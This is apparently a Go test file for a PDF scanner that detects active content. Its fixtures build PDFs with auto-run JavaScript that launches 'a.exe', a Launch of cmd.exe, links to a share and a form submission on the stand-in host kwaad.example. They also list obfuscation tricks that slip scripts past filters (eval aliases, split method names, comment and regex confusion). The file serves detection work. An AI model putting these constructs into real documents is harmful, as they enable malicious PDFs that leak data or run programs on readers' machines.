package pdf

import (
	"bytes"
	"compress/zlib"
	"fmt"
	"io"
	"strings"
	"testing"
)

// open reads a PDF that a test made.
func open(b []byte) *File {
	return Open(b, func(r io.Reader) io.Reader { return r })
}

// fileOf makes a PDF of objects, the first of which is its catalogue.
func fileOf(objects ...string) []byte {
	b := []byte("%PDF-1.4\n")
	var table strings.Builder
	fmt.Fprintf(&table, "xref\n0 %d\n0000000000 65535 f \n", len(objects)+1)
	for i, o := range objects {
		fmt.Fprintf(&table, "%010d 00000 n \n", len(b))
		b = fmt.Appendf(b, "%d 0 obj\n%s\nendobj\n", i+1, o)
	}
	return fmt.Appendf(b, "%strailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n", table.String(),
		len(objects)+1, len(b))
}

func deflated(s string) string {
	var b bytes.Buffer
	z := zlib.NewWriter(&b)
	io.WriteString(z, s)
	z.Close()
	return b.String()
}

func streamOf(dict, content string) string {
	return fmt.Sprintf("<<%s/Length %d>>\nstream\n%s\nendstream", dict, len(content), content)
}

// packedOf makes a PDF whose objects are all in an object stream, under a table that is a stream.
func packedOf(objects ...string) []byte {
	var head, body strings.Builder
	for i, o := range objects {
		fmt.Fprintf(&head, "%d %d ", i+1, body.Len())
		body.WriteString(o + " ")
	}
	n := len(objects)
	b := fmt.Appendf([]byte("%PDF-1.7\n"), "%d 0 obj\n%s\nendobj\n", n+1,
		streamOf(fmt.Sprintf("/Type/ObjStm/N %d/First %d/Filter/FlateDecode", n, head.Len()),
			deflated(head.String()+body.String())))
	at := len(b)
	return fmt.Appendf(b, "%d 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n", n+2,
		streamOf(fmt.Sprintf("/Type/XRef/Size %d/Root 1 0 R/W[1 2 1]/Filter/FlateDecode", n+3), deflated("x")), at)
}

const (
	tree   = "<</Type/Pages/Kids[3 0 R]/Count 1>>"
	page   = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]>>"
	launch = `this.exportDataObject({cName:"a.exe",nLaunch:2});`
)

// catalogue makes the objects of a file whose catalogue holds more, and further objects from number 4 on.
func catalogue(more string, objects ...string) []string {
	return append([]string{"<</Type/Catalog/Pages 2 0 R" + more + ">>", tree, page}, objects...)
}

func stringOf(s string) string {
	return "(" + strings.NewReplacer(`\`, `\\`, "(", `\(`, ")", `\)`).Replace(s) + ")"
}

func TestActiveContentIsSeenHoweverItIsWritten(t *testing.T) {
	script := "<</S/JavaScript/JS" + stringOf(launch) + ">>"
	for name, b := range map[string][]byte{
		"a script that runs on opening": fileOf(catalogue("/OpenAction" + script)...),
		"names with escapes":            fileOf(catalogue("/OpenAction 4 0 R", "<</S/J#61vaScript/J#53"+stringOf(launch)+">>")...),
		"comments between tokens": fileOf(catalogue("/OpenAction%x\n4%(\n0 R",
			"<<%\n/S%>>\n/JavaScript/JS%\n"+stringOf(launch)+">>")...),
		"a hexadecimal script": fileOf(catalogue("/OpenAction 4 0 R", fmt.Sprintf("<</JS<%x>/S/JavaScript>>", launch))...),
		"a script in UTF-16": fileOf(catalogue("/OpenAction<</S/JavaScript/JS<feff" +
			utf16Hex(launch) + ">>>")...),
		"a script that is a stream": fileOf(catalogue("/OpenAction<</S/JavaScript/JS 4 0 R>>",
			streamOf("/Filter/FlateDecode", deflated(launch)))...),
		"a script of two filters": fileOf(catalogue("/OpenAction<</S/JavaScript/JS 4 0 R>>",
			streamOf("/Filter[/AHx/Fl]", fmt.Sprintf("%x>", deflated(launch))))...),
		"objects in a stream":            packedOf(catalogue("/OpenAction 4 0 R", script)...),
		"a script with a name":           fileOf(catalogue("/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", script)...),
		"a header that is not at byte 0": append([]byte("MIME junk\r\n\r\n"), fileOf(catalogue("/OpenAction 4 0 R", script)...)...),
		"an update that is not the last": append(fileOf(catalogue("/OpenAction 4 0 R", script)...), fileOf(catalogue("")...)...),
		"an update that brings it":       append(fileOf(catalogue("")...), "4 0 obj"+script+"endobj trailer<</Root 1 0 R>>%%EOF"...),
		"a field's script that is no format": fileOf(catalogue("/AcroForm<</Fields[4 0 R]>>",
			"<</FT/Tx/T(a)/AA<</K<</S/JavaScript/JS"+stringOf(launch)+">>>>>>")...),
		"an action after another":                        fileOf(catalogue("/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next[4 0 R]>>", script)...),
		"a key given twice":                              fileOf(catalogue("/OpenAction" + script + "/OpenAction[3 0 R/Fit]")...),
		"a script of a key given twice":                  fileOf(catalogue("/OpenAction<</S/JavaScript/JS" + stringOf(launch) + "/JS(1)>>")...),
		"no table and no end":                            []byte("%PDF-1.4\n1 0 obj<</OpenAction" + script + ">>"),
		"an object within a stream that the table names": hiddenInStream(script),
		"a program":                                      fileOf(catalogue("/OpenAction<</S/Launch/Win<</F(cmd.exe)>>>>")...),
		"a player":                                       fileOf(catalogue("", "<</Type/Annot/Subtype/RichMedia>>")...),
		"a file of a share":                              fileOf(catalogue(`/OpenAction<</S/GoToE/F(\\\\kwaad.example\\a)/D[0/Fit]>>`)...),
		"a file of a share, otherwise":                   fileOf(catalogue(`/OpenAction<</S/GoToR/F<</Type/Filespec/UF(//kwaad.example/a)>>>>`)...),
		"a file of a share, by address":                  fileOf(catalogue(`/OpenAction<</S/URI/URI(file://kwaad.example/a)>>`)...),
		"a form that is sent by itself":                  fileOf(catalogue("/OpenAction<</S/SubmitForm/F(https://kwaad.example/)>>")...),
		"a form of XFA with a script": fileOf(catalogue("/AcroForm<</XFA 4 0 R>>", streamOf("",
			`<template><event><script contentType="application/x-javascript">xfa.host.gotoURL("https://kwaad.example")</script></event></template>`))...),
		"a form of XFA in parts": fileOf(catalogue("/AcroForm<</XFA[(template)4 0 R]>>", streamOf("/Filter/FlateDecode",
			deflated(`<xfa:script contentType='application/x-javascript'><![CDATA[app.launchURL("x")]]></xfa:script>`)))...),
	} {
		t.Run(name, func(t *testing.T) {
			if !open(b).Active().Macros {
				t.Error("no active content, want some")
			}
		})
	}
}

func utf16Hex(s string) string {
	var b strings.Builder
	for _, c := range s {
		fmt.Fprintf(&b, "%04x", c)
	}
	return b.String()
}

// hiddenInStream makes a file in which an object stands in a stream, where only a table of references leads.
func hiddenInStream(object string) []byte {
	inner := "4 0 obj" + object + "endobj"
	b := []byte("%PDF-1.4\n1 0 obj<</OpenAction 4 0 R>>endobj\n5 0 obj\n<</Length " + fmt.Sprint(len(inner)) +
		">>stream\n")
	at := len(b)
	return fmt.Appendf(b, "%s\nendstream endobj\nxref\n4 1\n%010d 00000 n \ntrailer<</Root 1 0 R>>%%%%EOF", inner, at)
}

func TestOrdinaryFormsAndLinksAreNotActive(t *testing.T) {
	field := func(js string) []byte {
		return fileOf(catalogue("/AcroForm<</Fields[4 0 R]>>", "<</Subtype/Widget/FT/Tx/T(geboortedatum)/AA<</F"+
			"<</S/JavaScript/JS"+stringOf(js)+">>>>>>")...)
	}
	for name, b := range map[string][]byte{
		"nothing":                fileOf(catalogue("")...),
		"a date":                 field(`AFDate_FormatEx("dd-mm-yyyy");`),
		"an amount":              field(`AFNumber_Format(2, 2, 0, 0, "\u20ac ", true);`),
		"a postal code":          field(`AFSpecial_KeystrokeEx("9999 AA"); // Nederlands`),
		"a sum":                  field(`AFSimple_Calculate("SUM", new Array ("a", "b"));`),
		"a range":                field(`AFRange_Validate(true, 0, true, 100);`),
		"a sum by hand":          field(`var a = this.getField("prijs").value; var n = this.getField("aantal").value; event.value = Math.round(a * n / 100) * 100;`),
		"a pattern":              field("var re = /^[1-9]\\d{3}\\s?[A-Z]{2}$/i; if (!re.test(event.value) && event.value != \"\") { app.alert(\"Vul een postcode in\"); event.rc = false; }"),
		"an age":                 field(`var d = util.scand("dd-mm-yyyy", this.getField("geb").value); event.value = (new Date()).getFullYear() - d.getFullYear();`),
		"own functions":          fileOf(catalogue("/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(function Btw\\(x\\){ return x * 0.21; })>>(b)<</S/JavaScript/JS(event.value = Btw\\(10\\);)>>]>>>>")...),
		"printing":               fileOf(catalogue("/OpenAction<</S/JavaScript/JS(this.print\\({bUI:true,bSilent:false,bShrinkToFit:true}\\);)>>")...),
		"the first page":         fileOf(catalogue("/OpenAction[3 0 R/Fit]")...),
		"a name of a font":       fileOf(catalogue("", "<</Type/Font/BaseFont/JSQWKA+Calibri>>", "<</Type/Font/BaseFont/JS>>")...),
		"a link to a lesson":     fileOf(catalogue("", "<</Subtype/Link/A<</S/URI/URI(https://leren.example/JavaScript/les1)>>>>")...),
		"a link as an example":   fileOf(catalogue("", "<</Subtype/Link/A<</S/URI/URI(javascript:alert\\(1\\))>>>>")...),
		"words in the text":      fileOf(catalogue("", streamOf("", "BT (<</S /JavaScript /JS \\(x\\)>> /Launch) Tj ET"))...),
		"a link to another site": fileOf(catalogue("", "<</Subtype/Link/A<</S/URI/URI(//school.example/a)>>>>")...),
		"a file beside it":       fileOf(catalogue("", "<</Subtype/Link/A<</S/GoToR/F(bijlage 2.pdf)/D[0/Fit]>>>>")...),
		"a button that sends":    fileOf(catalogue("", "<</Subtype/Widget/FT/Btn/A<</S/SubmitForm/F<</FS/URL/F(https://school.example/aanmelden)>>>>>>")...),
		"a part of a structure":  fileOf(catalogue("", "<</Type/StructElem/S/Launch>>")...),
		"an invoice": fileOf(catalogue("/Names<</EmbeddedFiles<</Names[(factur-x.xml)4 0 R]>>>>/AF[4 0 R]",
			"<</Type/Filespec/F(factur-x.xml)/UF(factur-x.xml)/AFRelationship/Data/EF<</F 5 0 R/UF 5 0 R>>>>",
			streamOf("/Type/EmbeddedFile/Subtype/text#2Fxml/Filter/FlateDecode", deflated("<rsm:CrossIndustryInvoice/>")))...),
		"a form of XFA that computes": fileOf(catalogue("/AcroForm<</XFA 4 0 R>>", streamOf("",
			`<calculate><script>Sum(a[*].b)</script></calculate><script contentType="application/x-javascript">if (this.rawValue == null) { this.presence = "hidden"; }</script>`))...),
	} {
		t.Run(name, func(t *testing.T) {
			if open(b).Active().Macros {
				t.Error("active content, want none")
			}
		})
	}
}

// A script that is dressed up as a harmless one is none.
func TestDressedUpScriptsAreNotHarmless(t *testing.T) {
	for _, s := range []string{
		`app.launchURL("https://kwaad.example")`,
		`app["launch" + "URL"]("x")`,
		`var print = app.launchURL; print("x")`,
		`function launchURL(){} app.launchURL("x")`,
		`var a = app; var n = "launchURL"; a[n]("x")`,
		`eval("x")`, `this.eval("x")`, `var e = eval; e("x")`,
		`x = /"/; app.launchURL("x"); y = /"/`,
		`if (1) /"/.test("x"); app.launchURL(1); /"/`,
		`x = /\//*app.launchURL("x")*/1/1`,
		"// \u2028app.launchURL('x')",
		"// \rapp.launchURL('x')",
		`x = /[/*]/; app.launchURL("x"); /* */`,
		`\u0061pp.launchURL("x")`,
		"app.launchURL`x`",
		`this.submitForm("https://kwaad.example")`,
		`app.setTimeOut("app.launchURL('x')", 1)`,
		`"".constructor.constructor("x")()`,
		`with (app) { launchURL("x") }`,
		`this.getURL("x")`, `this.mailDoc()`, `Collab.getIcon("x")`, `util.printf("%45000f", 1); media.newPlayer(null)`,
		`/* AFDate_FormatEx */ this.importDataObject("x")`,
		`"AFDate_FormatEx`,
	} {
		if harmless([]string{s}) {
			t.Errorf("%q is taken as harmless", s)
		}
	}
	if s := strings.Repeat("1;", maxScript); harmless([]string{s}) {
		t.Error("a script beyond the bound is taken as harmless")
	}
}

func TestCarriedFilesAreFoundOnceWithTheirNames(t *testing.T) {
	f := open(fileOf(catalogue("/Names<</EmbeddedFiles<</Names[(a)4 0 R]>>>>",
		"<</Type/Filespec/F(factuur.exe)/UF<feff0066002e006a0073>/EF<</F 5 0 R/UF 5 0 R>>>>",
		streamOf("/Type/EmbeddedFile", "MZ"), streamOf("/Type/EmbeddedFile", "zonder naam"),
		"<</Subtype/FileAttachment/FS<</F(b.txt)/EF<</F 8 0 R>>>>>>", streamOf("", "drie"))...))
	got := map[string]string{}
	for _, a := range f.Active().Files {
		r, err := f.Reader(a.Content)
		if err != nil {
			t.Fatal(err)
		}
		b, _ := io.ReadAll(r)
		got[a.Name] += string(b)
	}
	want := map[string]string{"f.js": "MZ", "": "zonder naam", "b.txt": "drie"}
	if fmt.Sprint(got) != fmt.Sprint(want) {
		t.Errorf("%v, want %v", got, want)
	}
}
